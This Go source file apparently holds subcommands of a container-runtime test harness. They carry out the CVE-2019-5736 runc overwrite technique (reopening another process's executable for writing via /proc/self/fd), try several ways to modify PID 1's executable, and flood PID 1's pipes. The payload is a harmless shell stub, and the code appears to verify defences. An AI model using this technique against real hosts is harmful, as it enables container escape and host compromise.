package main

import (
	"errors"
	"fmt"
	"os"
	"time"

	"golang.org/x/sys/unix"
)

// payload is what an overwritten executable would begin with.
const payload = "#!/bin/sh\n# overwritten\n"

// hunt is CVE-2019-5736 from the side of a program that waits inside: it opens
// the executable of every process that appears and is not of this program, keeps
// it open, and once that process is gone and the executable no longer busy,
// opens it again for writing by way of its own descriptor.
//
// It ends when standard input does.
func hunt([]string) error {
	var own unix.Stat_t
	if err := unix.Stat("/proc/self/exe", &own); err != nil {
		return err
	}
	over := make(chan struct{})
	go func() {
		var b [1]byte
		for {
			if n, err := os.Stdin.Read(b[:]); n == 0 || err != nil {
				close(over)
				return
			}
		}
	}()
	fmt.Println("ready")
	handles := map[[2]uint64]int{}
	for {
		select {
		case <-over:
			return overwriteAll(handles)
		default:
			look(own, handles)
		}
	}
}

// look takes every executable that is in sight.
func look(own unix.Stat_t, handles map[[2]uint64]int) {
	for _, pid := range pids() {
		fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		var st unix.Stat_t
		key := [2]uint64{}
		if err := unix.Fstat(fd, &st); err == nil {
			key = [2]uint64{uint64(st.Dev), st.Ino}
		}
		if _, have := handles[key]; have || (st.Dev == own.Dev && st.Ino == own.Ino) {
			unix.Close(fd)
			continue
		}
		handles[key] = fd
		fmt.Println("captured", pid)
	}
}

func overwriteAll(handles map[[2]uint64]int) error {
	for _, fd := range handles {
		fmt.Println("overwrite", errnoName(overwrite(fd)))
	}
	fmt.Println("done")
	return nil
}

// overwrite writes the payload to the file of a read-only descriptor. While the
// file is executed the kernel says ETXTBSY; that ends.
func overwrite(fd int) error {
	path := fmt.Sprintf("/proc/self/fd/%d", fd)
	deadline := time.Now().Add(2 * time.Second)
	for {
		w, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if errors.Is(err, unix.ETXTBSY) && time.Now().Before(deadline) {
			<-time.After(time.Millisecond)
			continue
		}
		if err != nil {
			return err
		}
		_, err = unix.Write(w, []byte(payload))
		return errors.Join(err, unix.Close(w))
	}
}

// overwritePID1 tries all ways to change the executable of PID 1 that need no
// end of it.
func overwritePID1([]string) error {
	const exe = "/proc/1/exe"
	fd, err := unix.Open(exe, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	fmt.Println("open", errnoName(err))
	if err != nil {
		return nil
	}
	var st unix.Stat_t
	if err := unix.Fstat(fd, &st); err != nil {
		return err
	}
	fmt.Printf("inode %d:%d\n", st.Dev, st.Ino)
	link, _ := os.Readlink(exe)
	fmt.Println("link", link)
	fmt.Println("open-for-writing", errnoName(openForWriting(exe)))
	fmt.Println("truncate", errnoName(unix.Truncate(exe, 0)))
	fmt.Println("chmod", errnoName(unix.Chmod(exe, 0o777)))
	fmt.Println("reopen", errnoName(openForWriting(fmt.Sprintf("/proc/self/fd/%d", fd))))
	mapping := fmt.Sprintf("/proc/%d/mem", 1)
	fmt.Println("memory", errnoName(openForWriting(mapping)))
	seals, err := unix.FcntlInt(uintptr(fd), unix.F_GET_SEALS, 0)
	fmt.Println("seals", seals, errnoName(err))
	var sfs unix.Statfs_t
	if err := unix.Fstatfs(fd, &sfs); err == nil {
		fmt.Println("read-only-mount", sfs.Flags&unix.ST_RDONLY != 0)
	}
	return nil
}

// forgeStatus floods every pipe of PID 1 with nonsense, then exits with 7: the
// pipe for the exit status must not take more than a status, nor block anybody.
func forgeStatus([]string) error {
	garbage := make([]byte, 1<<16)
	for i := range garbage {
		garbage[i] = 0xff
	}
	for fd := 3; fd < 64; fd++ {
		w, err := unix.Open(fmt.Sprintf("/proc/1/fd/%d", fd), unix.O_WRONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		for range 64 {
			if _, err := unix.Write(w, garbage); err != nil {
				break
			}
		}
		fmt.Println("wrote", fd)
	}
	os.Exit(7)
	return nil
}
